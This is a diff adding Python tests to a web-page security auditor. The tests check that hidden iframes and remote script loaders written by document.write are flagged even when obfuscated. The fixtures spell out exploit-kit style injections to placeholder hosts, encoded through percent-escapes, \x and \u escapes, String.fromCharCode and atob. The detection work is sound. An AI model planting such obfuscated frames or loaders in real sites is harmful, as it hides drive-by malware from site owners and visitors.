@@ -11,6 +11,8 @@ frame or link block is high") says what each severity means.
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from auditor.model import Severity
@@ -339,3 +341,103 @@ def test_a_network_the_page_runs_excuses_its_frames_not_an_injection_mark(
     frames = [f for f in report.findings if f.kind == "hidden-iframe"]
     assert [f.severity for f in frames] == expected and said in frames[0].message, [
         (f.severity, f.message) for f in frames]
+
+
+def _percent(text: str, keep: str = "") -> str:
+    return "".join(c if c in keep else f"%{ord(c):02X}" for c in text)
+
+
+def _hex(text: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+_KIT_FRAME = ('<iframe src="http://stat-counter7.example/in.cgi?3" width="0" height="0" '
+              'frameborder="0"></iframe>')
+_LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789./:?"
+# (what, the script's code): the forms incident write-ups show kits writing their frame in
+WRITTEN_FRAMES: list[tuple[str, str]] = [
+    ("as written", f"document.write('{_KIT_FRAME}');"),
+    ("its tag name split", "document.write('<ifr'+'ame src=\"http://stat-counter7.example/"
+     "in.cgi?3\" width=\"0\" height=\"0\"></ifr'+'ame>');"),
+    ("percent, tag letters in plain sight",
+     f"document.write(unescape('{_percent(_KIT_FRAME, _LETTERS)}'));"),
+    ("percent, every character", f"document.write(unescape('{_percent(_KIT_FRAME)}'));"),
+    ("\\x escapes of the brackets and quotes", "document.write(\"" + "".join(
+        f"\\x{ord(c):02x}" if c in '<>"' else c for c in _KIT_FRAME) + "\");"),
+    ("\\u escapes of every character", "document.write(\"" + "".join(
+        f"\\u{ord(c):04x}" for c in _KIT_FRAME) + "\");"),
+    ("\\x escapes of every character", f'document.write("{_hex(_KIT_FRAME)}");'),
+    ("String.fromCharCode for the brackets", "document.write(String.fromCharCode(60)+'"
+     + _KIT_FRAME[1:-10].replace("'", "\\'") + "'+String.fromCharCode(62));"),
+    ("String.fromCharCode of every character", "document.write(String.fromCharCode("
+     + ",".join(str(ord(c)) for c in _KIT_FRAME) + "));"),
+    ("atob", "document.write(atob('" + base64.b64encode(
+        _KIT_FRAME.encode()).decode() + "'));"),
+    ("escaped quotes in a double-quoted string", 'document.write("'
+     + _KIT_FRAME.replace('"', '\\"') + '");'),
+]
+
+
+@pytest.mark.parametrize(("what", "code"), WRITTEN_FRAMES, ids=[c[0] for c in WRITTEN_FRAMES])
+def test_a_written_frame_is_judged_as_the_frame_however_escaped(
+        what: str, code: str, audit_listed: AuditListed) -> None:
+    """`document.write(unescape('%3Ciframe%20src…'))` with its letters in plain sight was no
+    finding, nor was the frame written plainly: a frame a script writes stands where the
+    script does, and its tag reads the same in every escaping."""
+    plain = audit_listed(wp_page(widget=f"<p>Hi</p><div>{_KIT_FRAME}</div>"), URL)
+    written = audit_listed(wp_page(widget=f"<p>Hi</p><script>{code}</script>"), URL)
+    frames = [f for f in written.findings if f.kind == "hidden-iframe"]
+    assert [f.severity for f in frames] == _frames(plain.findings) == [H], [
+        (f.kind, f.message) for f in written.findings]
+    assert "a script writes" in frames[0].message and "in.cgi?3" in frames[0].message
+
+
+# (what, the script's code): frames scripts write that a reviewer would not act on
+WRITTEN_LEGITIMATE: list[tuple[str, str]] = [
+    # a video embed a script writes at its size
+    ("a visible video embed", "document.write('<iframe width=\"560\" height=\"315\" src=\"https:"
+     "//player.tidevideo.example/embed/8812\" allowfullscreen></iframe>');"),
+    # GTM's noscript frame as a consent tool writes it back
+    ("GTM's frame, escaped", "document.write(unescape('%3Ciframe src=\"https://www.googletag"
+     "manager.com/ns.html?id=GTM-Q27XK1\" height=\"0\" width=\"0\" style=\"display:none;"
+     "visibility:hidden\"%3E%3C/iframe%3E'));"),
+    # a frame whose address the script joins at run time: nothing to judge
+    ("an address joined at run time", "document.write('<iframe src=\"' + cfg.url + '\" "
+     "width=\"0\" height=\"0\"></iframe>');"),
+]
+
+
+@pytest.mark.parametrize(("what", "code"), WRITTEN_LEGITIMATE,
+                         ids=[c[0] for c in WRITTEN_LEGITIMATE])
+def test_a_written_frame_a_reviewer_would_not_act_on_is_no_finding(
+        what: str, code: str, audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
+    assert _frames(report.findings) == [], [(f.kind, f.message) for f in report.findings]
+
+
+_LOADER_URL = "https://widgets.harbourstats.example/w.js"
+_LOADER = f'<script src="{_LOADER_URL}"></script>'
+# (what, the code after </html>, the appended-script severity): the address in plain sight
+# is the plain write's verdict; hidden in an encoding, high (obfuscated-script says why)
+WRITTEN_LOADERS: list[tuple[str, str, Severity]] = [
+    ("as written", "document.write('<script src=\"" + _LOADER_URL + "\"></scr'+'ipt>');", M),
+    ("percent, letters in plain sight", "document.write(unescape('"
+     + _percent(_LOADER, _LETTERS + "-") + "'));", M),
+    ("String.fromCharCode for the brackets", "document.write(String.fromCharCode(60)+'script "
+     "src=\"" + _LOADER_URL + "\"'+String.fromCharCode(62)+String.fromCharCode(60)+'/script'"
+     "+String.fromCharCode(62));", M),
+    ("percent, every character", f"document.write(unescape('{_percent(_LOADER)}'));", H),
+    ("atob", "document.write(atob('" + base64.b64encode(
+        _LOADER.encode()).decode() + "'));", H),
+]
+
+
+@pytest.mark.parametrize(("what", "code", "expected"), WRITTEN_LOADERS,
+                         ids=[c[0] for c in WRITTEN_LOADERS])
+def test_a_written_loader_is_judged_by_whether_its_address_shows(
+        what: str, code: str, expected: Severity, audit_listed: AuditListed) -> None:
+    """`unescape('%3Cscript src="https://…"%3E')` escapes brackets, not the address: it was
+    high as "its address hidden in an encoding" where the plain write is medium."""
+    report = audit_listed(wp_page(after=f"<script>{code}</script>"), URL)
+    assert [f.severity for f in report.findings if f.kind == "appended-script"] == [expected], [
+        (f.kind, f.message) for f in report.findings]
